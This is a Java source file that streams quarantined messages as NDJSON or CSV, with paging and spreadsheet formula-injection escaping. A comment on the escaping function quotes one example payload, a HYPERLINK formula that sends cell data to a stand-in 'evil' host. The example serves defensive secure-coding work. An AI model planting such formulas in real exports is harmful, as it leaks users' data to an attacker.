package io.contractgate.quarantine;

import com.fasterxml.jackson.core.JsonProcessingException;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Base64;
import java.util.List;

/**
 * The export of a filter as NDJSON (one full message per line, as {@code GET /api/quarantine/messages/{id}} shows it)
 * or CSV, newest first. Streamed: the rows are read a page at a time ({@value #PAGE} rows, keyset by id) as the
 * client reads, so memory stays flat however many rows match, and no connection is held between pages.
 */
public final class ExportStream extends InputStream {

    /** Rows a page: each holds its payload and report (up to 256 KiB and more), so 200 were 50 MB and more per export. */
    static final int PAGE = 50;
    public static final String CSV_HEADER = "id,received_at,mapping,topic,qos,contract_id,contract_version,sensor_id,"
            + "primary_error,error_count,error_types,fields,status,payload_encoding,payload,report\n";

    private final QuarantineStore store;
    private final QuarantineFilter filter;
    private final boolean csv;
    private long beforeId;
    private byte[] buf = new byte[0];
    private int pos;
    private boolean exhausted;

    public ExportStream(QuarantineStore store, QuarantineFilter filter, boolean csv, long beforeId) {
        this.store = store;
        this.filter = filter;
        this.csv = csv;
        this.beforeId = beforeId;
        if (csv) {
            buf = CSV_HEADER.getBytes(StandardCharsets.UTF_8);
        }
    }

    @Override
    public int read() throws IOException {
        if (!fill()) {
            return -1;
        }
        return buf[pos++] & 0xff;
    }

    @Override
    public int read(byte[] b, int off, int len) throws IOException {
        if (len == 0) {
            return 0;
        }
        if (!fill()) {
            return -1;
        }
        int n = Math.min(len, buf.length - pos);
        System.arraycopy(buf, pos, b, off, n);
        pos += n;
        return n;
    }

    private boolean fill() throws IOException {
        while (pos >= buf.length) {
            if (exhausted) {
                return false;
            }
            List<QuarantinedMessage> rows;
            try {
                rows = store.pageDescending(filter, beforeId, PAGE);
            } catch (RuntimeException e) {
                throw new IOException(e.getMessage(), e);
            }
            if (rows.size() < PAGE) {
                exhausted = true;
            }
            if (rows.isEmpty()) {
                return false;
            }
            beforeId = rows.get(rows.size() - 1).id();
            StringBuilder sb = new StringBuilder(rows.size() * 512);
            for (QuarantinedMessage m : rows) {
                if (csv) {
                    csvLine(sb, m);
                } else {
                    try {
                        sb.append(QuarantineJson.JSON.writeValueAsString(QuarantineJson.message(m, true))).append('\n');
                    } catch (JsonProcessingException e) {
                        throw new IOException(e);
                    }
                }
            }
            buf = sb.toString().getBytes(StandardCharsets.UTF_8);
            pos = 0;
        }
        return true;
    }

    private static void csvLine(StringBuilder sb, QuarantinedMessage m) {
        String text = m.payload() == null ? null : QuarantineJson.utf8Text(m.payload());
        sb.append(m.id()).append(',');
        field(sb, Instant.ofEpochMilli(m.receivedAt()).toString());
        field(sb, m.mapping());
        field(sb, m.topic());
        sb.append(m.qos()).append(',');
        field(sb, m.contractId());
        field(sb, m.contractVersion());
        field(sb, m.sensorId());
        field(sb, m.primaryError());
        sb.append(m.errorCount()).append(',');
        field(sb, String.join(" ", m.errorTypes()));
        field(sb, String.join(" ", m.pointers()));
        field(sb, m.status());
        field(sb, text != null ? "text" : "base64");
        field(sb, text != null ? text : Base64.getEncoder().encodeToString(m.payload() == null ? new byte[0] : m.payload()));
        String report = m.report() == null ? "" : new String(m.report(), StandardCharsets.UTF_8);
        quote(sb, report);
        sb.append('\n');
    }

    private static void field(StringBuilder sb, String v) {
        quote(sb, v);
        sb.append(',');
    }

    private static void quote(StringBuilder sb, String v) {
        if (v != null) {
            sb.append(cell(v));
        }
    }

    /**
     * One CSV cell. A text a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return:
     * a sensor id or payload such as {@code =HYPERLINK("http://evil/?"&A1)} comes from whoever publishes) gets a
     * leading {@code '}, as OWASP advises; the NDJSON export keeps every byte. Then RFC 4180: quoted when it holds a
     * comma, quote or line break; quotes doubled.
     */
    static String cell(String v) {
        String text = !v.isEmpty() && "=+-@\t\r".indexOf(v.charAt(0)) >= 0 ? "'" + v : v;
        if (text.indexOf(',') < 0 && text.indexOf('"') < 0 && text.indexOf('\n') < 0 && text.indexOf('\r') < 0) {
            return text;
        }
        return '"' + text.replace("\"", "\"\"") + '"';
    }
}
